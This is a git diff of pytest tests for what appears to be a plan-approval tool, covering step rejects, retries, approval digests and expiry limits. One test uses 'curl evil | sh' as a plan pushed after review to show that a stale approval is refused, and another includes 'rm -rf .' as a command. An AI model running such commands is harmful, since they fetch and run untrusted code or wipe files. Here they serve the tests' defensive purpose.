@@ -5,7 +5,7 @@ from typing import Any
 
 import pytest
 from forging import answer, approvals_of, codes, commit_on, parsed, run_codes
-from team import EDIT, READ, Result, Team
+from team import EDIT, READ, Result, Team, command
 
 from runner.core.values import parse_time
 
@@ -274,3 +274,86 @@ def test_approvals_of_untouched_steps_survive_an_edit_of_a_later_one(team: Team)
     path.write_text(text.replace("path: three", "path: drei"))
     assert team.cli("ada", "propose", "job").code == 0
     assert outlook(team) == {"one": "ready", "two": "ready", "three": "waiting"}
+
+
+ABC = "".join(
+    EDIT.replace("id: edit", f"id: {name}").replace("path: utils.py", f"path: {name}.py")
+    for name in "abc"
+)
+
+
+def test_A37_reject_of_a_later_step_leaves_earlier_ones_approvable(team: Team) -> None:
+    """Whoever rejects the last step and approves the rest lets the rest run."""
+    team.propose("three", ABC)
+    assert team.cli("bob", "reject", "three", "--step", "c").code == 0
+    team.approve("bob", "three")
+    done = team.cli("ada", "run", "three")
+    assert done.code == 0, done.text
+    assert team.cli("ada", "audit").code == 0
+    assert "c  edit_file  skipped" in team.cli("ada", "log", "three").out
+
+
+def test_A37_reject_in_the_middle(team: Team) -> None:
+    """One approval that names the skip serves the steps before and behind it."""
+    team.propose("three", ABC)
+    assert team.cli("cleo", "reject", "three", "--step", "b").code == 0
+    team.approve("bob", "three")
+    assert team.cli("ada", "run", "three").code == 0
+    assert team.cli("ada", "audit").code == 0
+
+
+def test_approval_after_a_withdrawn_reject_covers_every_step(team: Team) -> None:
+    """A withdraw ends the reject; the next approval leaves nothing out."""
+    team.propose("three", ABC)
+    assert team.cli("bob", "reject", "three", "--step", "b").code == 0
+    assert team.cli("bob", "withdraw", "three").code == 0
+    approved = team.approve("bob", "three").json
+    assert (approved["steps"], approved["skipped"]) == (["a", "b", "c"], [])
+    assert team.cli("ada", "run", "three").code == 0
+
+
+def test_failed_step_may_be_rejected_and_left_out(team: Team) -> None:
+    """A reject of a failed step skips it on retry, and one approval then covers the rest."""
+    bad = EDIT.replace("id: edit", "id: bad").replace("path: utils.py", "path: utils.py/x.py")
+    team.propose("two", bad + ABC)
+    team.approve("bob", "two")
+    assert team.cli("ada", "run", "two").code == 5
+    assert team.cli("cleo", "reject", "two", "--step", "bad").code == 0
+    approved = team.approve("bob", "two").json
+    assert approved["skipped"] == ["bad"]
+    done = team.cli("ada", "run", "two", "--retry")
+    assert done.code == 0, done.text
+    assert team.cli("ada", "audit").code == 0
+
+
+def test_plan_that_changed_under_the_reviewer_is_not_signed(team: Team) -> None:
+    """With the digest of what was reviewed, a plan pushed since is refused and nothing written."""
+    team.propose("job", command("echo good", more=""))
+    seen = team.cli("bob", "show", "job", "--json").json["digest"]
+    tip = team.propose("job", command("curl evil | sh"))
+    done = team.cli("bob", "approve", "job", "--digest", seen, "--json")
+    assert (done.code, codes(done)) == (4, ["digest_differs"])
+    assert team.git("rev-parse", "plan/job") == tip
+    now = team.cli("bob", "show", "job", "--json").json["digest"]
+    for digest in (now, now.removeprefix("sha256:")[:12]):
+        assert team.cli("bob", "approve", "job", "--digest", digest).code == 0
+    assert team.cli("bob", "approve", "job", "--digest", "sha256:0123").code == 2
+
+
+def test_approval_tells_what_it_signed(team: Team) -> None:
+    """The plan's digest, and each approved command and edit on a line of its own."""
+    team.propose("job", EDIT + command("make\nrm -rf ."))
+    digest = team.cli("bob", "show", "job", "--json").json["digest"]
+    said = team.cli("bob", "approve", "job").out
+    assert digest in said
+    assert "edit  edit_file  change utils.py\n" in said
+    assert "check  run_command  make [and 1 more lines]\n" in said
+    assert "change utils.py" not in team.cli("bob", "approve", "job", "--step", "check").out
+
+
+def test_end_that_the_policy_cuts_is_told(team: Team) -> None:
+    """Whoever asks for longer than the policy allows learns what they got."""
+    team.propose("job", EDIT)
+    said = team.cli("bob", "approve", "job", "--expires", "30d").out
+    assert "not 30d: the policy's approvals_expire_after is 7d" in said
+    assert "not " not in team.cli("bob", "approve", "job", "--expires", "1h").out
